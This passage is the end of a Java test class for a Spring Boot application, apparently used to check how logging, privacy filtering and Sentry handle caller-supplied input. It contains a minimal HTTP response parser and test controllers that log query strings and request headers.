					? Integer.parseInt(lines[0].substring(9, 12)) : 0;
			Map<String, List<String>> headers = new HashMap<>();
			for (int i = 1; i < lines.length; i++) {
				int colon = lines[i].indexOf(':');
				if (colon > 0) {
					headers.computeIfAbsent(lines[i].substring(0, colon).trim().toLowerCase(Locale.ROOT),
							(key) -> new ArrayList<>())
						.add(lines[i].substring(colon + 1).trim());
				}
			}
			return new Response(status, head, headers);
		}

		/**
		 * Whether a whole response has arrived, so that the client need not wait for the server to
		 * close: a server draining a request body it refused keeps the connection open until the
		 * client closes it.
		 */
		static boolean isComplete(byte[] bytes) {
			String text = new String(bytes, StandardCharsets.ISO_8859_1);
			int end = text.indexOf("\r\n\r\n");
			if (end < 0) {
				return false;
			}
			Response response = parse(bytes);
			List<String> length = response.headers("Content-Length");
			if (!length.isEmpty()) {
				return bytes.length - (end + 4) >= Long.parseLong(length.get(0));
			}
			if (response.headers("Transfer-Encoding").contains("chunked")) {
				return text.endsWith("\n0\r\n\r\n");
			}
			return response.status() == 204 || response.status() == 304;
		}

		List<String> headers(String name) {
			return this.headers.getOrDefault(name.toLowerCase(Locale.ROOT), List.of());
		}

	}

	@SpringBootConfiguration
	@EnableAutoConfiguration
	@Import({ ItemController.class, ReportController.class })
	static class TestApplication {

		@Bean
		SecurityFilterChain security(HttpSecurity http) throws Exception {
			return http
				.authorizeHttpRequests((requests) -> requests.requestMatchers("/api/me")
					.authenticated()
					.anyRequest()
					.permitAll())
				.httpBasic(Customizer.withDefaults())
				.csrf((csrf) -> csrf.disable())
				.build();
		}

		@Bean
		InMemoryUserDetailsManager users() {
			return new InMemoryUserDetailsManager(
					User.withUsername(HOSTILE_USER).password("{noop}" + USER_PASSWORD).roles("USER").build());
		}

	}

	/**
	 * Logs what callers send, as many applications do: the privacy policy and the JSON lines have to
	 * cope with it.
	 */
	@RestController
	static class ItemController {

		private static final Logger logger = LoggerFactory.getLogger(ItemController.class);

		@GetMapping("/api/items/{id}")
		Map<String, Object> item(@PathVariable String id, HttpServletRequest request) {
			logger.info("Looking up item {} for query {} from {}", id, request.getQueryString(),
					request.getHeader("User-Agent"));
			return Map.of("found", true);
		}

		@PostMapping("/api/items")
		Map<String, Object> create(@RequestBody Map<String, Object> item) {
			return Map.of("fields", item.size());
		}

		@PostMapping("/api/upload")
		ResponseEntity<Void> upload(@RequestBody byte[] body, @RequestHeader HttpHeaders headers) {
			logger.info("Received {} bytes with headers {}", body.length, headers);
			return ResponseEntity.noContent().build();
		}

		@GetMapping("/api/me")
		String me(Principal principal) {
			return "hello";
		}

	}

	/**
	 * Logs an error with what the caller sent, which Sentry's appender turns into an event.
	 */
	@RestController
	static class ReportController {

		private static final Logger logger = LoggerFactory.getLogger(ReportController.class);

		@GetMapping("/api/reports/{id}")
		String report(@PathVariable String id, HttpServletRequest request) {
			logger.error("Could not build report {} for query {}", id, request.getQueryString());
			return "pending";
		}

	}

}
